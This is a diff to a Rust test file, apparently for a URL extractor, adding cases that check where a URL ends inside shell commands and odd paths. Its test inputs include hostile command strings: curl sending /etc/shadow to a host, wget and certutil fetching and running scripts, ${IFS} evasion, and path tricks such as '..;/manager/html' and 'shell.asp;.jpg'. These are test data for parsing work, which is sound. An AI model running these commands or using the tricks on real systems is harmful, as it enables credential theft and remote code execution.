@@ -37,7 +37,28 @@ fn a_url_in_a_command_ends_before_the_next_command() {
         ("wget${IFS}http://192.0.2.1/a;chmod${IFS}777", "http://192.0.2.1/a"),
         ("curl http://192.0.2.1/?d=$(cat /etc/shadow)", "http://192.0.2.1/?d="),
         ("curl http://192.0.2.1/?a=1&b=2;id", "http://192.0.2.1/?a=1&b=2"),
+        ("certutil -f http://192.0.2.1/a.sh;a.sh", "http://192.0.2.1/a.sh"),
         // Parameters, and what else belongs to one.
+        (
+            "curl \"http://x.example/;payload.exe\" z",
+            "http://x.example/;payload.exe",
+        ),
+        ("curl 'http://x.example/a&sh' -o x", "http://x.example/a&sh"),
+        (
+            "see http://x.example/a/..;/manager/html z",
+            "http://x.example/a/..;/manager/html",
+        ),
+        (
+            "see http://x.example/shell.asp;.jpg z",
+            "http://x.example/shell.asp;.jpg",
+        ),
+        ("see http://x.example/wiki/R&B z", "http://x.example/wiki/R&B"),
+        ("see http://x.example/matrix;a;b=1 z", "http://x.example/matrix;a;b=1"),
+        ("see http://x.example/;/x z", "http://x.example/;/x"),
+        (
+            "see http://x.example/?id=1;id=2&cat=3 z",
+            "http://x.example/?id=1;id=2&cat=3",
+        ),
         (
             "GET http://x.example/a;jsessionid=12 HTTP/1.1",
             "http://x.example/a;jsessionid=12",
